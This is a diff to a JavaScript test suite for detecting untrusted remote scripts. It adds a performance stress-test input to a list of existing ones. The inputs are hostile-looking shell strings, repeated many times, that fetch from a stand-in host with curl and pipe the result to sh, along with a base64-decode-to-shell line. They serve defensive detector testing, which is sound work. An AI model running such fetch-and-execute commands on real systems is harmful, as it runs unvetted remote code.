@@ -271,6 +271,8 @@ describe('untrusted-remote-script', () => {
       '"QUFB" + '.repeat(100_000),
       '"QUFB"' + ' '.repeat(1_000_000) + 'x',
       `A=${'QUFB'.repeat(10)}\necho "` + '$A'.repeat(500_000) + '" | base64 -d | sh',
+      // A bare name read inside `%…%` over and over (each overlap was spliced out: 9 s for 250 KB).
+      'url = "http://192.0.2.7/x"\ncurl ' + '%url%'.repeat(100_000) + ' | sh',
       // A 2 KB value of many URLs read 40 times per command (expanding every read took 40 s per MB).
       'A="' + 'https://a.example '.repeat(110) + '"\n' + ('curl ' + '$A'.repeat(40) + '|sh\n').repeat(12_000),
     ];
